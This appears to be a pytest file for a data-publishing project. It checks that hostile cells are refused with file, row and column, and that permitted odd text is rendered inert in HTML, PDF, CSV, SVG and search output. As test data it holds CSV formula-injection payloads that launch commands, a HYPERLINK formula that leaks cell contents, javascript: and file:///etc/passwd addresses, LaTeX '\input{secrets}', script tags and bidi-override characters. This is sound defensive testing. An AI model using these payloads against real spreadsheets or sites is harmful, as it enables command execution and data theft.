"""Hostile data are refused with file, row and column, in every column of every table; what is allowed is shown inert."""

import csv
import io
import re
import sys
from dataclasses import replace

import altair as alt
import pandas as pd
import pypdfium2
import pytest
from bs4 import BeautifulSoup
from conftest import cases, each_of
from docutils.core import publish_from_doctree
from docutils.utils import new_document
from hostile import FREE, UGLY

from _ext import claim_pages, explorer, exports, history_pages, linked_data, record_pages
from _ext.cards import render_card, write_files
from _ext.peeks import peek
from _ext.search_index import find_entries
from _ext.uses import UsesNode
from evidence import paper as typesetting
from evidence.charts.figure import Figure
from evidence.errors import EvidenceError
from evidence.ledger import load_ledger
from evidence.ledger.cells import defuse, is_formula, name_character
from evidence.ledger.reconcile import reconcile
from evidence.ledger.tables import read_cells, read_descriptor, read_resource, read_table
from evidence.paper.convert import Converter
from evidence.paper.pages import read_page
from evidence.paper.terms import read_terms
from evidence.paths import DATA
from evidence.rules.dates import DATED, check_dates
from evidence.rules.quantities import check_quantities
from evidence.rules.texts import LONGEST, check_texts
from intake import review
from intake.__main__ import main as take_in

LEDGER = load_ledger()
FIELDS = {
    (resource["name"], field["name"]): field
    for resource in read_descriptor()["resources"]
    for field in resource["schema"]["fields"]
}
NUMBERS = sorted(key for key, field in FIELDS.items() if field["type"] in {"number", "integer"})
TEXTS = sorted(FIELDS.keys() - set(NUMBERS))


# Refused.


def spoil(data, columns, cell):
    """Put a cell into the first row of columns, each given with its table."""
    for table in {table for table, _ in columns}:
        path = data / read_resource(table)["path"]
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        for name, column in columns:
            if name == table:
                frame.loc[0, column] = cell
        frame.to_csv(path, index=False, lineterminator="\n")


HOSTILE = {
    "=1+1": "begins like a formula: '=1",
    '=HYPERLINK("http://example.org/?"&A1,"x")': "begins like a formula",
    "+cmd|' /C calc'!A0": r"begins like a formula: \"\+cmd",
    "-2+3+cmd|' /C calc'!A0": "begins like a formula",
    "@SUM(A1:A9)": "begins like a formula",
    " =1+1": "begins like a formula",
    "＝1+1": "begins like a formula",
    "\t=1+1": r"holds U\+0009 at character 1",
    "a\r\nb": r"holds U\+000D at character 2",
    "a\x1b[31mb": r"holds U\+001B at character 2",
    "380 \u202e000\u202c t": r"holds U\+202E RIGHT-TO-LEFT OVERRIDE at character 5",
    "a\u2067b": r"holds U\+2067 RIGHT-TO-LEFT ISOLATE at character 2",
    "a\u200bb": r"holds U\+200B ZERO WIDTH SPACE at character 2",
    "a\ufeffb": r"holds U\+FEFF ZERO WIDTH NO-BREAK SPACE",
    "a\u3164b": r"holds U\+3164 HANGUL FILLER",
    "a\U000e0041b": r"holds U\+E0041 TAG LATIN CAPITAL LETTER A",
    "a\u2028b": r"holds U\+2028 LINE SEPARATOR",
    "x" * 1_000_000: r"has 1,000,000 characters, more than 2,000: 'x{40}' \.\.\.$",
}


def place_of(table):
    return f"data/{read_resource(table)['path']}"


def test_a_hostile_cell_is_refused_in_every_text_column_of_every_table(data):
    cells = [cell for cell in HOSTILE if len(cell) < LONGEST]
    for table in {table for table, _ in TEXTS}:
        path = data / read_resource(table)["path"]
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        frame = pd.concat([frame.head(1)] * len(cells), ignore_index=True)
        for name, column in TEXTS:
            if name == table:
                frame[column] = cells
        frame.to_csv(path, index=False, lineterminator="\n")
    problems = {}
    for problem in check_texts(data):
        row = int(re.match(r"row (\d+)", problem.row)[1])
        problems[problem.file, problem.what.split()[0], row] = problem
    wanted = {(place_of(table), column, row) for table, column in TEXTS for row in range(2, len(cells) + 2)}
    assert problems.keys() == wanted
    for (_, _, row), problem in problems.items():
        assert re.search(HOSTILE[cells[row - 2]], problem.what), problem.what
        assert problem.remedy
        assert str(problem).replace("\n", "").isprintable()


def test_a_cell_of_a_million_characters_is_refused_in_every_table(data):
    (cell,) = (cell for cell in HOSTILE if len(cell) > LONGEST)
    columns = list(dict(TEXTS).items())
    spoil(data, columns, cell)
    problems = list(check_texts(data))
    assert {(problem.file, problem.what.split()[0]) for problem in problems} == {
        (place_of(table), column) for table, column in columns
    }
    assert all(re.search(HOSTILE[cell], problem.what) for problem in problems)
    assert all(len(str(problem)) < 300 for problem in problems)


def test_the_limit_of_length_leaves_room_and_is_kept(data):
    longest = max(read_cells(name, DATA).map(len).to_numpy().max() for name, _ in TEXTS)
    assert longest * 2 < LONGEST
    spoil(data, [("claims", "note")], "x" * LONGEST)
    assert not list(check_texts(data))
    spoil(data, [("claims", "note")], "x" * (LONGEST + 1))
    assert len(list(check_texts(data))) == 1


@each_of("text", ["-5%", "+10 percentage points", "-1,200.5 t", "A = B", "a@b", "1-2", "3 + 4", "“=x”"])
def test_signed_figures_and_signs_within_a_text_are_no_formula(text):
    assert not is_formula(text)
    assert defuse(text) == text


@pytest.mark.parametrize("cell", ["NaN", "nan", "inf", "-Infinity", "1e400", "１２", "0x10", "1_000", "3,8", "=1+1"])
def test_what_is_no_finite_number_is_refused_in_every_column_of_numbers(cell, data):
    assert len(NUMBERS) > 10
    for table, column in NUMBERS:
        path = data / read_resource(table)["path"]
        whole = path.read_text(encoding="utf-8")
        spoil(data, [(table, column)], cell)
        with pytest.raises(EvidenceError, match=rf"row 2: {column} is {re.escape(repr(cell))}, not a (number|integer)"):
            read_table(table, data)
        path.write_text(whole, encoding="utf-8")


@each_of(("table", "column"), [(t, c) for t, c in NUMBERS if c in {"value", "low", "high", "capacity"}])
def test_no_quantity_is_negative(table, column):
    frame = getattr(LEDGER, table).copy()
    frame[column] = frame[column].astype(float)
    key = frame.index[0]
    frame.loc[key, ["value", "low", "high"] if "value" in frame else ["capacity", "low", "high"]] = float("nan")
    frame.loc[key, column] = -2600.0
    file = read_resource(table)["path"]
    problems = [str(problem) for problem in check_quantities(replace(LEDGER, **{table: frame}))]
    assert [text for text in problems if re.match(rf"data/{file}, row 2 .*: -2600\.0 is negative", text)], problems


@each_of(("cell", "what"), cases("hostile_data", "dates that cannot be are refused in every column of dates"))
def test_dates_that_cannot_be_are_refused_in_every_column_of_dates(cell, what):
    for table, file, columns, _ in DATED:
        for column in columns:
            frame = getattr(LEDGER, table).copy()
            frame.loc[frame.index[0], column] = cell
            problems = [str(problem) for problem in check_dates(replace(LEDGER, **{table: frame}))]
            assert len(problems) == 1
            assert re.match(rf"data/{file}, row 2\b.*: {column} .*{what}", problems[0]), problems


@each_of(("table", "cell"), [("articles", "2026-10-09T00:01"), ("sources", "2026-11"), ("sources", "2027")])
def test_no_evidence_is_younger_than_the_cut_off(table, cell):
    frame = getattr(LEDGER, table).copy()
    frame.loc[frame.index[0], "published"] = cell
    (problem,) = check_dates(replace(LEDGER, **{table: frame}))
    assert "after the evidence cut-off" in problem.what


@each_of(
    "address", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//x", "https://x y", 'http://x"><b>']
)
def test_an_address_that_is_no_web_page_is_refused(address):
    pattern = FIELDS["sources", "url"]["constraints"]["pattern"]
    assert not re.fullmatch(pattern, address)
    assert LEDGER.sources["url"].str.fullmatch(f"({pattern})?").all()


@pytest.mark.parametrize("title", [r"\input{secrets}", '}}@preamble{"x"}', "an open {"])
def test_a_title_that_would_be_a_command_in_the_bibliography_is_refused(title, data):
    spoil(data, [("sources", "title")], title)
    assert re.search(r"row 2 .*: title holds '.{1,2}', a command", str(next(check_texts(data))))


@pytest.mark.parametrize(
    ("spoiled", "message"),
    [
        (
            lambda whole: whole.replace(b"lowering", b"l\xe9").replace(b"Shoigu", b"Sho\xefgu", 1),
            r"row \d+: the text is not UTF-8",
        ),
        (lambda whole: b"", "the file is empty"),
        (lambda whole: whole + b'"no end', "EOF inside string"),
        (lambda whole: whole + b",".join([b"x"] * 30) + b"\n", r"Expected 15 fields in line \d+, saw 30"),
        (
            lambda whole: re.sub(rb"\n", b",x\n", whole).replace(b"note,x", b"note", 1),
            "row 2: more cells than the header",
        ),
        (lambda whole: whole.decode().encode("utf-16"), "row 1: the text is not UTF-8"),
    ],
)
def test_a_file_that_is_no_table_is_named(spoiled, message, data):
    path = data / "claims.csv"
    path.write_bytes(spoiled(path.read_bytes()))
    with pytest.raises(EvidenceError, match=rf"data/claims\.csv.*{message}[\s\S]*->"):
        read_cells("claims", data)


# Shown as it is written.


def forget():
    """Empty every cache of what was read from the ledger, so that nothing ugly stays for the tests of other files."""
    modules = [module for name, module in sys.modules.items() if name.startswith(("evidence", "_ext"))]
    for value in [value for module in modules for value in vars(module).values()]:
        if hasattr(value, "cache_clear") and value is not load_ledger:
            value.cache_clear()
    load_ledger().answers.clear()


@pytest.fixture(scope="module")
def ugly():
    """Lend the ledger with ugly text in every free cell of it."""
    forget()
    ledger = load_ledger()  # tests of other files may have had the tables read anew
    whole = {table: getattr(ledger, table) for table in FREE}
    for table, columns in FREE.items():
        object.__setattr__(ledger, table, whole[table].assign(**dict.fromkeys(columns, UGLY)))
    yield ledger
    for table in FREE:
        object.__delattr__(ledger, table)
    forget()


def as_html(content):
    document = new_document("page")
    document += content
    for node in list(document.findall(UsesNode)):
        node.parent.remove(node)
    return publish_from_doctree(document, writer_name="html5", settings_overrides={"output_encoding": "unicode"})


def assert_inert(html):
    """Assert that ugly text is text: it makes no element, and is read as written."""
    body = BeautifulSoup(html, "html.parser").body
    assert not body.find_all(["script", "img", "b", "title"])
    assert UGLY in " ".join(body.get_text().split())


def part(directive):
    return directive.__new__(directive)


def ledger_part():
    claims = load_ledger().claims
    return [claim_pages.claim_entry(claims.iloc[0], claims.iloc[1:3])]


def indicators_part():
    return [part(claim_pages.IndicatorsDirective).entry(reconcile(load_ledger())["ru.reserves"])]


def record_part():
    rows = load_ledger().observations
    series = rows["series"].iloc[0]
    return [part(record_pages.RecordDirective).series(series, rows[rows["series"] == series])]


PARTS = {
    "ledger": ledger_part,
    "indicators": indicators_part,
    "history": lambda: part(history_pages.HistoryDirective).run(),
    "record": record_part,
    "gaps": lambda: part(record_pages.GapsDirective).run(),
    "measures": lambda: part(record_pages.MeasuresDirective).run(),
    "sources": lambda: part(record_pages.SourcesDirective).run(),
}


@pytest.mark.parametrize("name", PARTS)
def test_pages_show_ugly_text_as_it_is(name, ugly):
    assert_inert(as_html(PARTS[name]()))


def test_the_search_finds_ugly_text_as_it_is(ugly):
    document = new_document("page")
    document += PARTS["sources"]()
    texts = [text for _, _, text in find_entries(document)]
    assert any(UGLY in text for text in texts)
    assert not any("&lt;" in text for text in texts)


def test_ugly_text_cannot_leave_the_linked_data(ugly):
    script = linked_data.script([*linked_data.ledger_things(ugly), linked_data.record_thing(ugly)])
    (element,) = BeautifulSoup(script, "html.parser")
    assert element.name == "script"
    assert "<" not in element.string


def test_files_for_spreadsheets_and_programs_hold_ugly_text_as_it_is(ugly):
    records = exports.ledger_records(ugly)
    sheet = exports.ledger_table(records).to_csv(index=False)
    row = next(csv.DictReader(io.StringIO(sheet)))
    assert (row["statement"], row["article.title"], row["verdict.reason"]) == (UGLY,) * 3
    assert all(row[1] == UGLY for row in explorer.explorer_rows(ugly))
    assert UGLY in peek(ugly.claims.index[0]).title


def test_no_formula_reaches_a_sheet():
    for formula in (cell for cell in HOSTILE if is_formula(cell)):
        assert exports.flat_cell(formula).startswith("'")
        assert not is_formula(defuse(formula))


def test_the_pdf_prints_ugly_text_as_it_is(ugly, tmp_path):
    body = BeautifulSoup(as_html(ledger_part()), "html.parser").body
    for link in body.find_all("a"):
        link.unwrap()
    path = tmp_path / "page.html"
    # The HTML's parser is the browser's cousin here: what it takes for an element would be set as one, or stop the PDF.
    path.write_text(
        f"<article><section id='page'><h1>Page</h1>{body.find(id=True).parent.decode_contents()}</section></article>",
        encoding="utf-8",
    )
    found = read_page(path)
    document = Converter([found], read_terms(), [found]).convert()
    markup = "\n\n".join([typesetting.preamble("T"), *document.body])
    document = pypdfium2.PdfDocument(typesetting.compile_document(markup, document.pictures, {}))
    printed = "".join("".join(sheet.get_textpage().get_text_bounded().split()) for sheet in document)
    assert printed.replace("-\ufffe", "").count("<script>alert(1)</script>") >= 3
    for sign in ('#panic("x")', "*b*", "_i_", "[c]", "`d`", "$e$", "@f", "\\g", "{{7*7}}", "{fact}`RU-013`", "&&amp;"):
        assert sign in printed, sign


def test_a_figure_draws_ugly_text_as_it_is(ugly, tmp_path):
    rows = pd.DataFrame({"name": [UGLY, "=1+1"], "value": [1.0, 2.0], "evidence": ["RU-072", "RU-013"]})
    figure = Figure(
        "fig-ugly",
        UGLY,
        UGLY,
        rows,
        lambda rows, layout: (
            alt.Chart(rows).mark_bar().encode(x="value:Q", y=alt.Y("name:N", axis=alt.Axis(labelLimit=9000)))
        ),
        {"name": UGLY, "value": "Value"},
        UGLY,
        UGLY,
    )
    payload = figure.to_payload()
    card = BeautifulSoup(render_card(payload), "html.parser")
    assert not card.find_all(["script", "img", "b", "foreignobject"])
    assert {found.name for found in card.svg.find_all(True)} <= {
        "title",
        "desc",
        "g",
        "path",
        "rect",
        "text",
        "line",
        "svg",
        "defs",
        "clippath",
    }
    assert UGLY in card.svg.text
    write_files(payload, tmp_path)
    sheet = list(csv.reader(io.StringIO((tmp_path / "fig-ugly.csv").read_text(encoding="utf-8-sig"))))
    assert [row[0] for row in sheet] == [UGLY, UGLY, "'=1+1"]
    assert "<script" not in (tmp_path / "fig-ugly.svg").read_text(encoding="utf-8")


DIGEST = (
    '=HYPERLINK("http://example.org","x")\nSou Hu Cai Jing· 2026-01-05 09:10\nRussia has 2,600 tons of rare earths, '
    + "as articles say. " * 6
)


def test_what_intake_proposes_is_no_formula(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr("intake.__main__.REVIEW", tmp_path / "review.csv")
    digest = tmp_path / "new.txt"
    digest.write_text(DIGEST, encoding="utf-8")
    for _ in range(2):
        assert take_in([str(digest), "--write"]) == 0
    rows = review.read_review(tmp_path / "review.csv")
    assert len(rows) == 2, "the figure and the time stamp, and nothing new the second time"
    assert rows["title"].str.startswith("'=HYPERLINK").all()


@pytest.mark.parametrize("character", ["\x1b", "\u202e", "\x08"])
def test_a_digest_that_would_steer_the_screen_is_refused(character, tmp_path, capsys):
    digest = tmp_path / "new.txt"
    digest.write_text(DIGEST.replace("2,600", f"2,{character}600"), encoding="utf-8")
    assert take_in([str(digest)]) == 1
    assert f"new.txt, line 3: it holds {name_character(character)}" in capsys.readouterr().err
